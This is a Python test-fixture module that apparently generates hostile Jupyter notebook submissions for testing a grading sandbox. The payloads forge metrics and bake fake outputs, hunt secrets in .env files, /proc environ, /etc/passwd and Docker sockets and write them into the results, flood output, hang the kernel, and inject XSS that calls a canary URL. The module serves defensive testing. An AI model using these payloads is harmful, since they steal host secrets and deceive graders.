"""Group D, first half: notebooks that forge, hunt, flood, hang or die; and one that only looks odd."""

from __future__ import annotations

import json
from typing import Any

from .case import NOTEBOOK_SECONDS, Case, Expect, Maker, Setting, valid
from .notebook_pieces import FIT, M_ZERO, PARAMETERS, code, drop, submission

HALF = {"N.exec": 20, "N.artifact": 20, "N.score": 0, "N.metrics": 0}

_HUNT = """\
import json
import os
import socket

found = []


def note(path, size=2000):
    try:
        with open(path, "rb") as file:
            found.append(path + ": " + file.read(size).decode("utf-8", "replace"))
    except OSError as error:
        found.append(path + ": " + str(error))


for root, folders, names in os.walk("/"):
    folders[:] = [name for name in folders if os.path.join(root, name) not in ("/proc", "/sys", "/usr")]
    for name in names:
        if name.endswith((".csv", ".parquet", ".npy", ".json", ".toml", ".txt", ".env", ".ipynb")):
            note(os.path.join(root, name), 300)"""

_HUNT_PROCESSES = """\
for process in filter(str.isdigit, os.listdir("/proc")):
    for name in ("environ", "cmdline", "mountinfo"):
        note("/proc/" + process + "/" + name, 8000)
for path in ("/proc/mounts", @CANARY@, os.path.dirname(@CANARY@), "/etc/passwd", "/etc/resolv.conf"):
    note(path)
for path in ("/var/run/docker.sock", "/run/docker.sock", "/run/containerd/containerd.sock"):
    try:
        with socket.socket(socket.AF_UNIX) as line:
            line.connect(path)
            line.sendall(b"GET /containers/json HTTP/1.0\\r\\n\\r\\n")
            found.append(path + ": " + line.recv(4000).decode("utf-8", "replace"))
    except OSError as error:
        found.append(path + ": " + str(error))"""

_TELL = """\
text = "\\n".join(found)
print(text[:500_000])
with open(out_dir + "/metrics.json", "w") as file:
    json.dump({"r2": 0.99, "found": text[:100_000]}, file)"""

_FLOOD = """\
from IPython.display import display

for number in range(@LINES@):
    print("line", number)
print("x" * @BYTES@)
for number in range(50_000):
    display(number)"""

_ENDLESS = """\
import time

while True:
    try:
        time.sleep(1)
    except BaseException:
        pass"""

_ACTIVE = """\
from IPython.display import display

URL = @URL@
PAGE = f"<script src='{URL}'></script><img src=x onerror=\\"fetch('{URL}')\\"><iframe src='{URL}'></iframe>"
display({"text/html": PAGE}, raw=True)
display({"image/svg+xml": f"<svg onload=\\"fetch('{URL}')\\"><image href='{URL}'/></svg>"}, raw=True)
display({"application/javascript": f"fetch('{URL}')"}, raw=True)
display({"text/markdown": f"[x](javascript:fetch('{URL}')) <script>fetch('{URL}')</script> ![x]({URL})"}, raw=True)
display({"text/latex": r"$\\href{javascript:alert(1)}{x}$"}, raw=True)
display({"application/vnd.vega.v5+json": {"data": [{"name": "t", "url": URL}], "marks": []}}, raw=True)
print("\\x1b[2J\\x1b]0;x\\x07\\x1b]8;;" + URL + "\\x07x\\u202e </script>")"""


def _case(honest: int, expect: Expect, *cells: Any, **options: Any) -> Case:
    return Case(honest, NOTEBOOK_SECONDS, expect, (submission(*cells, **options),), lab="N")


def _forged_metrics(setting: Setting) -> Case:
    claim = drop("metrics.json", b'{"r2": 1.0}')
    expect = Expect(("GRADED",), most=40, items=HALF)
    return _case(40, expect, 'print("R2: 0.9999")', claim, drop("model.onnx", M_ZERO))


def _hunt_for_labels(setting: Setting) -> Case:
    hunt = _HUNT_PROCESSES.replace("@CANARY@", repr(setting.params["HOST_CANARY"]))
    expect = Expect(("GRADED",), most=40, items={"N.score": 0, "N.metrics": 0})
    return _case(40, expect, _HUNT, hunt, _TELL, drop("model.onnx", M_ZERO))


def _output_bomb(setting: Setting) -> Case:
    """Whether all cells ran decides about `N.exec` alone: a flood that was survived is no fault."""
    flood = _FLOOD.replace("@LINES@", str(setting.whole(200_000)))
    flood = flood.replace("@BYTES@", str(setting.whole(300 << 20)))
    expect = Expect(("NB_LIMIT", "NB_TIMEOUT", "GRADED"), most=100, also={"log_mib": 2})
    return _case(100, expect, flood, *FIT)


def _endless_cell(setting: Setting) -> Case:
    expect = Expect(("NB_TIMEOUT",), most=20, items={"N.exec": 0, "N.score": 0, "N.metrics": 0})
    return _case(20, expect, drop("model.onnx", M_ZERO), _ENDLESS)


def _active_outputs(setting: Setting) -> Case:
    show = _ACTIVE.replace("@URL@", repr(setting.params["CANARY_URL"]))
    state = {"state": {"x": {"model_name": "HTMLModel", "state": {"value": "</script><script>alert(1)</script>"}}}}
    metadata = {
        "kernelspec": {"display_name": "Python 3", "language": "python", "name": "python3"},
        "widgets": {"application/vnd.jupyter.widget-state+json": {**state, "version_major": 2, "version_minor": 0}},
        "title": "</script><img src=x onerror=alert(1)>",
    }
    return _case(100, Expect(("GRADED",), exact=100), *FIT, show, metadata=metadata)


def _dead_kernel(setting: Setting) -> Case:
    """Two cells behind the end look as if they had run; nothing that they show was ever computed."""
    shown = [{"name": "stdout", "output_type": "stream", "text": "accuracy 0.99\n"}]
    baked = [
        code(f'print("accuracy", {value})', execution_count=count, outputs=shown)
        for count, value in ((3, 0.99), (4, 0.99))
    ]
    zero = {"N.exec": 0, "N.artifact": 0, "N.score": 0, "N.metrics": 0}
    dying = "import os\n\nos.kill(os.getpid(), 9)"
    return _case(20, Expect(("NB_ERROR",), exact=0, items=zero), 'print("all good")', dying, *baked)


def _foreign_kernelspec(setting: Setting) -> Case:
    """An old notebook from somebody's own environment, run out of order there, with what it left behind."""
    error = {"ename": "NameError", "evalue": "name 'x' is not defined", "output_type": "error",
             "traceback": ["\x1b[0;31mNameError\x1b[0m: name 'x' is not defined"]}  # fmt: skip
    page = {"data": {"text/html": "<b onclick=alert(1)>old</b>"}, "metadata": {}, "output_type": "display_data"}
    cells: list[Any] = [code(PARAMETERS, ["parameters"], execution_count=9)]
    cells += [
        code(source, execution_count=count, outputs=[error, page])
        for source, count in zip(FIT, (7, 3, 12, 1), strict=True)
    ]
    cells.insert(1, {"cell_type": "raw", "metadata": {"format": "text/restructuredtext"}, "source": ".. raw::"})
    picture = {"picture.png": {"image/png": "iVBORw0KGgo="}}
    cells.insert(2, {"attachments": picture, "cell_type": "markdown", "metadata": {},
                     "source": "# Training\n\n![a picture](attachment:picture.png)"})  # fmt: skip
    kernel = {"display_name": "Python (mlops)", "language": "python", "name": "venv-mlops"}
    metadata = json.loads(json.dumps({"kernelspec": kernel, "language_info": {"name": "python", "version": "3.8.2"}}))
    return valid(submission(*cells, metadata=metadata, minor=2, parameters=False), lab="N")


HOSTILE: dict[str, Maker] = {
    "PH22": _forged_metrics,
    "PH23": _hunt_for_labels,
    "PH24": _output_bomb,
    "PH25": _endless_cell,
    "PH26": _active_outputs,
    "PH29": _dead_kernel,
}
VALID: dict[str, Maker] = {"PV17": _foreign_kernelspec}
